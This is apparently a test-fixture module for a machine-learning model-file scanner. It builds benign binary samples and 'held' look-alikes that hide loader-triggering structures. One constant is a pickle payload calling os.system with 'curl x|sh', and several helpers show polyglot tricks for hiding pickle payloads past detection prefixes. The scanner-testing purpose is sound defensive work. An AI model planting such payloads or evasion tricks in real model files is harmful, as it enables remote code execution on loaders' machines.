"""Opaque data and its look-alikes, generated at test time (DESIGN.md rule 10).

`opaque_samples()`: binary no loader would execute (seeded random bytes, some starting with a
pickle opcode; raw arrays written by numpy's `tofile`; an OpenVINO weights file; a TensorFlow
checkpoint's data shard and its SSTable `.index`): each must scan CLEAN as `opaque`.
`held_samples()`: random bytes hiding something a loader opens where it looks (a zip directory
at the end, an HDF5 signature at a user-block offset, a pickle from the start, a tar header, an
lzma stream joblib would decompress, a protobuf ONNX/TensorFlow would parse...): each must stay
held. Everything is built from bytes and numpy; nothing is ever loaded.
"""

from __future__ import annotations

import lzma
import random
import struct
import tarfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

from tests.scanners.corpus import EVIL, g, reduce_global, torch_zip_with
from tests.scanners.corpus_headers import pb_field, pb_varint

HDF5_SIGNATURE = b"\x89HDF\r\n\x1a\n"
TABLE_MAGIC = 0xDB4775248B80FB57  # LevelDB/TensorFlow SSTable footer magic
AFTER_MAGIC = b"0" + reduce_global("os", "system", "curl x|sh")  # POP, then the payload


def random_bytes(seed: int, size: int, first: int | None = None) -> bytes:
    """`size` seeded random bytes, the first one forced to `first` when given."""
    data = random.Random(seed).randbytes(size)  # noqa: S311 - reproducible noise, not secrets
    return data if first is None else bytes([first]) + data[1:]


def _tofile(path: Path, array: np.ndarray) -> bytes:
    """Write `array` with `ndarray.tofile` (the raw items, no header); the bytes written."""
    array.tofile(path)
    return path.read_bytes()


def raw_float32(path: Path) -> bytes:
    return _tofile(path, np.random.default_rng(0).standard_normal(50_000).astype(np.float32))


def raw_float16(path: Path) -> bytes:
    return _tofile(path, np.linspace(-1.0, 1.0, 60_000, dtype=np.float16))


def raw_int8(path: Path) -> bytes:
    return _tofile(path, np.random.default_rng(1).integers(-128, 128, 70_000, dtype=np.int8))


def openvino_weights() -> bytes:
    """`openvino_model.bin`: the IR's Constant layers, raw, one after the other (the `.xml`
    names each by offset and size)."""
    rng = np.random.default_rng(2)
    kernels: list[np.ndarray] = [
        rng.standard_normal((64, 32)).astype(np.float32),
        np.zeros(64, dtype=np.float32),
        rng.standard_normal((32, 64)).astype(np.float16),
        np.arange(4, dtype=np.int64),
    ]
    return b"".join(k.tobytes() for k in kernels)


def tf_checkpoint_tensors() -> dict[str, np.ndarray]:
    rng = np.random.default_rng(3)
    return {
        "dense/bias": np.zeros(16, dtype=np.float32),
        "dense/kernel": rng.standard_normal((128, 16)).astype(np.float32),
        "global_step": np.array([1000], dtype=np.int64),
    }


def tf_checkpoint_data() -> bytes:
    """`model.ckpt.data-00000-of-00001`: the tensors' bytes back to back, in key order."""
    tensors = tf_checkpoint_tensors()
    return b"".join(tensors[key].tobytes() for key in sorted(tensors))


def tf_checkpoint_index() -> bytes:
    """`model.ckpt.index`: an SSTable (LevelDB table format, as TensorFlow's `BundleWriter`
    writes it): a data block mapping "" to the BundleHeaderProto and each tensor name to its
    BundleEntryProto (dtype, shape, shard, offset, size, crc32c), a metaindex and an index
    block, each with its type byte and masked CRC32C, then the 48-byte footer and its magic."""
    tensors = tf_checkpoint_tensors()
    header = pb_field(1, 1) + pb_field(3, pb_field(1, 1))  # num_shards, version.producer
    entries = [(b"", header)]
    offset = 0
    for key in sorted(tensors):
        array = tensors[key]
        dims = b"".join(pb_field(2, pb_field(1, d)) for d in array.shape)
        dtype = 1 if array.dtype == np.float32 else 9  # DT_FLOAT, DT_INT64
        crc = _crc32c(array.tobytes())
        entry = pb_field(1, dtype) + pb_field(2, dims) + pb_field(4, offset)
        entry += pb_field(5, array.nbytes) + pb_varint(6 << 3 | 5) + struct.pack("<I", crc)
        entries.append((key.encode(), entry))
        offset += array.nbytes
    out = bytearray()
    data_handle = _write_block(out, _block(entries))
    meta_handle = _write_block(out, _block([]))
    index_handle = _write_block(out, _block([(entries[-1][0] + b"\0", data_handle)]))
    footer = (meta_handle + index_handle).ljust(40, b"\0") + struct.pack("<Q", TABLE_MAGIC)
    return bytes(out + footer)


def _block(entries: list[tuple[bytes, bytes]]) -> bytes:
    """A block with a restart point at every entry (keys stored whole)."""
    body = bytearray()
    restarts = []
    for key, value in entries:
        restarts.append(len(body))
        body += pb_varint(0) + pb_varint(len(key)) + pb_varint(len(value)) + key + value
    restarts = restarts or [0]
    return (
        bytes(body)
        + b"".join(struct.pack("<I", r) for r in restarts)
        + struct.pack("<I", len(restarts))
    )


def _write_block(out: bytearray, block: bytes) -> bytes:
    """Append `block`, uncompressed, with its trailer; its BlockHandle (offset, size)."""
    handle = pb_varint(len(out)) + pb_varint(len(block))
    crc = _crc32c(block + b"\0")
    masked = (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF
    out += block + b"\0" + struct.pack("<I", masked)
    return handle


def _crc32c(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 & -(crc & 1))
    return crc ^ 0xFFFFFFFF


# ---- look-alikes that stay held -----------------------------------------------------------------
def with_zip_eocd(data: bytes) -> bytes:
    """A zip end-of-central-directory record appended, pointing at a directory that is not
    there: `zipfile` looks for it in the last 64 KiB."""
    return data + b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 1, 1, 46, 1000, 0)


def with_hdf5_signature(data: bytes, offset: int) -> bytes:
    """The HDF5 signature at a user-block offset h5py tries (512 x 2^n)."""
    return data[:offset] + HDF5_SIGNATURE + data[offset + len(HDF5_SIGNATURE) :]


def pickle_after_short_string(data: bytes) -> bytes:
    """The ISO-media/TFLite polyglot trick on random bytes: SHORT_BINSTRING swallows 10 random
    bytes, then POP and the payload."""
    return b"U\x0a" + data[2:12] + AFTER_MAGIC + data[12 + len(AFTER_MAGIC) :]


def pickle_after_long_bytes(data: bytes, skip: int = 100_000) -> bytes:
    """The padded-BMP trick: BINBYTES swallows more than detection's prefix, then the payload."""
    return b"B" + struct.pack("<I", skip) + data[5 : 5 + skip] + AFTER_MAGIC + data[5 + skip :]


def global_then_random(data: bytes) -> bytes:
    """A short pickle that only imports os.system (GLOBAL), then random bytes break it."""
    return g("os", "system") + data[len(g("os", "system")) :]


def v7_tar(data: bytes) -> bytes:
    """A tar header with no `ustar` magic (tarfile reads it by its checksum), member `x`."""
    info = tarfile.TarInfo("x")
    info.size = 4
    header = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
    header[257:265] = b"\0" * 8
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header[:512]) + b"abc\n".ljust(512, b"\0") + data[1024:]


def joblib_lzma(payload: bytes = EVIL) -> bytes:
    """An LZMA-alone stream with a 64 KiB dictionary (`5d 00 00 01 00`... is `5d 00 00`; a
    4 KiB one starts `5d 00 10`): joblib.load decompresses anything starting `5d 00`."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
    return lzma.compress(payload, format=lzma.FORMAT_ALONE, filters=filters)


def saved_model_pb() -> bytes:
    """A SavedModel-shaped protobuf: schema version, a first meta graph longer than detection's
    prefix (so `detect` sees two fields only), a second one; every byte parses as protobuf."""
    serve = pb_field(1, pb_field(1, "serve"))  # MetaInfoDef.tags
    first = serve + pb_field(2, b"\x0a\x00" * 50_000)  # a GraphDef of empty nodes
    return pb_field(1, 1) + pb_field(2, first) + pb_field(2, serve)


def protobuf_beyond_prefix() -> bytes:
    """Protobuf that is no TensorFlow graph (its fields are not a SavedModel's or GraphDef's),
    with a first field longer than detection's prefix; every byte parses as protobuf."""
    return pb_field(3, 7) + pb_field(9, b"\x10\x01" * 50_000) + pb_field(9, b"\x10\x02")


def elf_header(data: bytes) -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + data[8:]


Builder = Callable[[Path], bytes]  # writes or returns the sample's bytes for `path`


def _fixed(data: bytes) -> Builder:
    return lambda _: data


def opaque_samples() -> dict[str, Builder]:
    """name -> builder of bytes that must scan CLEAN as opaque data."""
    samples: dict[str, Builder] = {
        "random_1.bin": _fixed(random_bytes(0, 1)),
        "random_100.bin": _fixed(random_bytes(0, 100)),
        "random_4096.bin": _fixed(random_bytes(1, 4096)),
        "random_70000.bin": _fixed(random_bytes(3, 70_000)),
        "random_300000.bin": _fixed(random_bytes(4, 300_000)),
        "counting.bin": _fixed(bytes(range(1, 200)) * 3),  # the corpus' "unknown binary" before
        "weights_f32.bin": raw_float32,
        "weights_f16.bin": raw_float16,
        "weights_i8.bin": raw_int8,
        "openvino_model.bin": lambda _: openvino_weights(),
        "model.ckpt.data-00000-of-00001": lambda _: tf_checkpoint_data(),
        "model.ckpt.index": lambda _: tf_checkpoint_index(),
    }
    for first in (0x80, 0x28, 0x5D, 0x63, 0x7D, 0x4B, 0x2E):
        for size in (300, 200_000):
            samples[f"random_{size}_starts_0x{first:02x}.bin"] = _fixed(
                random_bytes(5, size, first)
            )
    return samples


def held_samples() -> dict[str, Builder]:
    """name -> builder of bytes that must stay held (REVIEW or worse), never opaque."""
    noise = random_bytes(7, 300_000)
    samples = {
        "random_zip_eocd.bin": with_zip_eocd(noise),
        "random_evil_zip_appended.bin": noise + torch_zip_with(EVIL),
        "random_hdf5_at_4096.bin": with_hdf5_signature(noise, 4096),
        "random_hdf5_at_131072.bin": with_hdf5_signature(noise, 131_072),
        "random_pickle_after_short_string.bin": pickle_after_short_string(noise),
        "random_pickle_after_long_bytes.bin": pickle_after_long_bytes(noise),
        "random_global_os_system.bin": global_then_random(noise),
        "random_v7_tar_header.bin": v7_tar(noise),
        "joblib_lzma_small_dictionary.bin": joblib_lzma(),
        "protobuf_beyond_prefix.bin": protobuf_beyond_prefix(),
        "random_elf.so": elf_header(noise),
        "pytorch_model.bin": EVIL,
    }
    return {name: _fixed(data) for name, data in samples.items()}


def write_samples(root: Path, builders: dict[str, Builder]) -> dict[str, Path]:
    """Write every sample under `root`; name -> path."""
    root.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for name, build in builders.items():
        path = root / name
        data = build(path)
        if not path.exists() or path.read_bytes() != data:
            path.write_bytes(data)
        out[name] = path
    return out
